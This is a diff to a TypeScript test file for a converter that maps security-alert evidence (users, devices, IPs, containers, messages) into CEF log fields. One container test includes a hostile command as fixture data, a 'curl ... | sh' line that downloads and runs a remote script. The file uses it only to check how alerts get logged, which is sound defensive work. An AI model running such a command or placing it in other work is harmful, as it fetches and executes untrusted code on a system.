@@ -1,5 +1,6 @@
 import { describe, expect, it } from 'vitest';
 import type { Json, RelayRecord } from '../../../src/core/record.ts';
+import { cef } from '../../../src/formats/cef/index.ts';
 import { aRecord } from '../../support/records.ts';
 import { aStamp, createFormat, formatCef, parseCef } from './support.ts';
 
@@ -34,6 +35,14 @@ describe('the header', () => {
     ['critical', '10'],
   ])('gives severity %s as %s', (severity, expected) => {
     expect(event({ severity }).header.severity).toBe(expected);
+  });
+
+  it('takes numbers for severities from the settings, all but those left out', () => {
+    const ours = createFormat({ severity: cef.schema.shape.severity.parse({ high: 10, unknown: 0 }) });
+    const severityOf = (severity: string) =>
+      parseCef(ours(aRecord({ severity }), aStamp())[0] ?? '').header.severity;
+    expect(['high', 'medium', 'HIGH', 'toString', ''].map(severityOf)).toEqual(['10', '6', '10', '0', '0']);
+    expect(cef.schema.safeParse({ type: 'cef', severity: { high: 11 } }).success).toBe(false);
   });
 
   it.each([
@@ -84,6 +93,18 @@ describe('the fields of an alert', () => {
     expect(externalId).toHaveLength(40);
     expect(extensionOf({ id }).externalId).toBe(externalId);
     expect(extensionOf({ id: `${id}x` }).externalId).not.toBe(externalId);
+  });
+
+  it('tells a long id whole when no link has it', () => {
+    const id = 'ad'.repeat(33);
+    expect(extensionOf({ id, alertWebUrl: null }).cs6).toBe(`id:${id}`);
+    expect(extensionOf({ id, alertWebUrl: `https://x/${id}` })).not.toHaveProperty('cs6');
+    expect(extensionOf({ id: 'short', alertWebUrl: null })).not.toHaveProperty('cs6');
+  });
+
+  it('leaves out a category that is none', () => {
+    expect(extensionOf({ category: 'None' })).not.toHaveProperty('cat');
+    expect(event({ title: null, category: 'none' }).header.name).toBe('Alert');
   });
 
   it('leaves out dates of the year 1 and what is no date', () => {
@@ -207,6 +228,48 @@ describe('the primary entity', () => {
     expect(fields).not.toHaveProperty('cs6');
   });
 
+  it('adds roles, verdict and notes that come with a later sight of it, and only these', () => {
+    const bob = { accountName: 'bob', domainName: 'CONTOSO' };
+    const fields = keysOf(
+      evidence('user', { userAccount: bob, roles: ['attacker'] }),
+      evidence('user', { userAccount: bob, roles: ['compromised'], verdict: 'malicious' }),
+      evidence('user', { userAccount: bob, roles: ['compromised'], verdict: 'malicious' }),
+      evidence('process', { processId: 7, userAccount: { ...bob, userSid: 'S-1-5-21-1' } }),
+      device('a', { mdeDeviceId: '1', riskScore: 'high' }),
+      device('a', { mdeDeviceId: '1', riskScore: 'high', loggedOnUsers: [bob] }),
+    );
+    expect(fields).toMatchObject({ suser: 'CONTOSO\\bob', suid: 'S-1-5-21-1', shost: 'a' });
+    expect(fields.cs6).toBe(
+      'user:CONTOSO\\bob[compromised,malicious] ; device:a/loggedOn:CONTOSO\\bob ; mdeDeviceId:1 ; risk:high',
+    );
+  });
+
+  it('keeps what is known of the people and the address of a message', () => {
+    const mail = evidence('analyzedMessage', {
+      networkMessageId: 'n',
+      p2Sender: { emailAddress: 'friend@evil.example' },
+      recipientEmailAddress: 'ann@contoso.com',
+      senderIp: '198.51.100.192',
+    });
+    const account = { userPrincipalName: 'Ann@contoso.com', azureAdUserId: 'u-1', domainName: 'CONTOSO' };
+    const sender = ip('198.51.100.192', { verdict: 'malicious', countryLetterCode: 'IE', roles: ['source'] });
+    const fields = keysOf(
+      mail,
+      evidence('user', { userAccount: account, roles: ['compromised'], verdict: 'malicious' }),
+      sender,
+      evidence('mailbox', { primaryAddress: 'ann@contoso.com', roles: ['destination'] }),
+    );
+    expect(fields).toMatchObject({
+      suser: 'friend@evil.example',
+      duser: 'ann@contoso.com',
+      duid: 'u-1',
+      dntdom: 'CONTOSO',
+      src: '198.51.100.192',
+      cs6: 'user:Ann@contoso.com[compromised,malicious] ; ip:198.51.100.192/country:IE[source,malicious]',
+    });
+    expect(fields).not.toHaveProperty('suid');
+  });
+
   it('G21: two devices with one name and two ids are two', () => {
     expect(keysOf(device('a', { mdeDeviceId: '1' }), device('a', { mdeDeviceId: '2' })).cs6).toBe(
       'device:a/mdeDeviceId:2 ; mdeDeviceId:1',
@@ -226,6 +289,36 @@ describe('an address', () => {
       dhost: 'a',
       dst: '10.0.0.1',
     });
+  });
+
+  it('of an attacker never stands beside the device that it harmed', () => {
+    const attacked = device('a', { roles: ['attacked'], lastIpAddress: '10.0.0.1' });
+    const server = ip('198.51.100.9', { roles: ['commandAndControl'] });
+    expect(keysOf(attacked, server)).toMatchObject({ dhost: 'a', dst: '10.0.0.1', src: '198.51.100.9' });
+
+    const compromised = device('b', { roles: ['compromised'] });
+    const attacker = ip('198.51.100.9', { roles: ['attacker'] });
+    const fields = keysOf(compromised, attacker);
+    expect(fields).toMatchObject({ shost: 'b', dst: '198.51.100.9' });
+    expect(fields).not.toHaveProperty('src');
+
+    expect(keysOf(compromised, attacked, attacker)).toMatchObject({
+      shost: 'b',
+      dhost: 'a',
+      dst: '10.0.0.1',
+      cs6: 'ip:198.51.100.9[attacker]',
+    });
+  });
+
+  it('of an attacker stands beside the device of the attacker', () => {
+    const attacker = ip('10.0.0.9', { roles: ['attacker'] });
+    const victim = device('b', { roles: ['compromised'] });
+    expect(keysOf(device('a', { roles: ['attacker'] }), victim, attacker)).toMatchObject({
+      shost: 'a',
+      src: '10.0.0.9',
+    });
+    const own = device('b', { roles: ['compromised'], ipInterfaces: ['10.0.0.9'] });
+    expect(keysOf(own, attacker)).toMatchObject({ shost: 'b', src: '10.0.0.9' });
   });
 
   it('of a device in the alert is not', () => {
@@ -256,10 +349,40 @@ describe('an address', () => {
     expect(keysOf(ip(address))[key]).toBe(expected);
   });
 
+  it.each(['0.0.0.0', '255.255.255.255', '::', '::ffff:0.0.0.0'])(
+    '%s is nobody’s: it has no key',
+    (address) => {
+      const mail = evidence('analyzedMessage', { networkMessageId: 'n', senderIp: address });
+      const connection = evidence('networkConnection', {
+        sourceAddress: { ipAddress: '10.0.0.1' },
+        destinationAddress: { ipAddress: address },
+      });
+      const alone = device('a', { lastIpAddress: address });
+      for (const piece of [ip(address), mail, connection, alone]) {
+        const { src, dst, c6a2, c6a3, cs6 } = keysOf(piece);
+        expect({ src, dst, c6a2, c6a3 }).toEqual({ src: piece === connection ? '10.0.0.1' : undefined });
+        expect(cs6).toContain(address.replace('::ffff:', ''));
+      }
+    },
+  );
+
+  it('of a device is one that can be reached, wherever it stands', () => {
+    const interfaces = { ipInterfaces: ['127.0.0.1', '10.0.0.7'] };
+    expect(keysOf(device('a', { lastIpAddress: 'fe80::1', ...interfaces }))).toMatchObject({
+      src: '10.0.0.7',
+    });
+    expect(keysOf(device('a', { lastIpAddress: '10.0.0.8', ...interfaces }))).toMatchObject({
+      src: '10.0.0.8',
+    });
+    const linkLocal = keysOf(device('a', { lastIpAddress: 'fe80::1' }));
+    expect(linkLocal).toMatchObject({ shost: 'a', cs6: 'ip:fe80::1' });
+    expect(linkLocal).not.toHaveProperty('c6a2');
+  });
+
   it('that is none is not lost', () => {
     const fields = keysOf(ip('not an address'), device('a', { lastIpAddress: '999.1.1.1' }));
     expect(fields).not.toHaveProperty('src');
-    expect(fields.cs6).toBe('ip:not an address ; src:999.1.1.1');
+    expect(fields.cs6).toBe('ip:not an address ; ip:999.1.1.1');
   });
 });
 
@@ -329,6 +452,10 @@ describe('evidence', () => {
     const fields = keysOf(connection, ip('203.0.113.1'));
     expect(fields).toMatchObject({ src: '10.0.0.1', spt: '50000', dst: '203.0.113.1' });
     expect(fields).not.toHaveProperty('dpt');
+    // Without either end of it the protocol would be said of other addresses.
+    expect(
+      keysOf(connection, ip('203.0.113.1'), ip('203.0.113.2', { roles: ['source'] })),
+    ).not.toHaveProperty('proto');
   });
 
   it('of a process stands in for a missing file and user', () => {
@@ -354,6 +481,72 @@ describe('evidence', () => {
     const withFile = keysOf(process, evidence('file', { fileDetails: { fileName: 'x' } }));
     expect(withFile).toMatchObject({ fname: 'x' });
     expect(withFile).not.toHaveProperty('fileHash');
+  });
+
+  it('of a container tells what it runs, and that it is privileged', () => {
+    const container = evidence('container', {
+      name: 'web',
+      command: ['/bin/sh', '-c'],
+      args: ['curl -s http://203.0.113.66/x.sh | sh'],
+      isPrivileged: true,
+    });
+    expect(keysOf(container)).toMatchObject({
+      destinationServiceName: 'web',
+      cs5Label: 'commandLine',
+      cs5: '/bin/sh -c curl -s http://203.0.113.66/x.sh | sh',
+      cs6: 'privileged:true',
+    });
+    const process = evidence('process', { processId: 7, processCommandLine: 'runc' });
+    expect(keysOf(process, container)).toMatchObject({
+      cs5: 'runc',
+      cs6: 'process:/bin/sh -c curl -s http://203.0.113.66/x.sh | sh ; privileged:true',
+    });
+    expect(keysOf(evidence('container', { name: 'web', isPrivileged: false }))).not.toHaveProperty('cs6');
+  });
+
+  it('of a blob tells its hashes', () => {
+    const fileHashes = [
+      { algorithm: 'sha256', value: 'ab' },
+      { algorithm: 'md5', value: 'cd' },
+    ];
+    expect(keysOf(evidence('blob', { name: 'x.csv', fileHashes }))).toMatchObject({
+      destinationServiceName: 'x.csv',
+      fileHash: 'ab',
+      cs6: 'fileHash:md5:cd',
+    });
+  });
+
+  it.each([
+    ['bounce@amazonses.example', 'friend@fabrikam.example', 'p1Sender:bounce@amazonses.example'],
+    ['bounce@mail.fabrikam.example', 'friend@fabrikam.example', undefined],
+    ['bounce@evilfabrikam.example', 'friend@fabrikam.example', 'p1Sender:bounce@evilfabrikam.example'],
+    ['friend@Fabrikam.example', 'friend@fabrikam.example', undefined],
+    ['', 'friend@fabrikam.example', undefined],
+    ['friend@fabrikam.example', '', undefined],
+  ])('of a message from %j in the name of %j: %s', (p1, p2, cs6) => {
+    const mail = { p1Sender: { emailAddress: p1 }, p2Sender: { emailAddress: p2 } };
+    expect(keysOf(evidence('analyzedMessage', { networkMessageId: 'n', ...mail })).cs6).toBe(cs6);
+  });
+
+  it('of a message tells what was found in it and where it went', () => {
+    const found = { threats: ['Phish', 'ZapPhish'], deliveryAction: 'Delivered', deliveryLocation: 'Inbox' };
+    expect(keysOf(evidence('analyzedMessage', { networkMessageId: 'n', ...found })).cs6).toBe(
+      'threat:Phish ; threat:ZapPhish ; deliveryAction:Delivered ; deliveryLocation:Inbox',
+    );
+  });
+
+  it('of a session names its device, also without a user agent', () => {
+    const session = evidence('cloudLogonSession', {
+      sessionId: 's',
+      deviceName: 'pc1',
+      account: { userAccount: { userPrincipalName: 'bob@contoso.com' } },
+    });
+    expect(keysOf(session)).toMatchObject({
+      shost: 'pc1',
+      suser: 'bob@contoso.com',
+      cs6: 'cloudLogonSession:s',
+    });
+    expect(keysOf(session, device('srv1')).cs6).toBe('cloudLogonSession:s ; device:pc1');
   });
 
   it('keeps a number that its key cannot hold', () => {
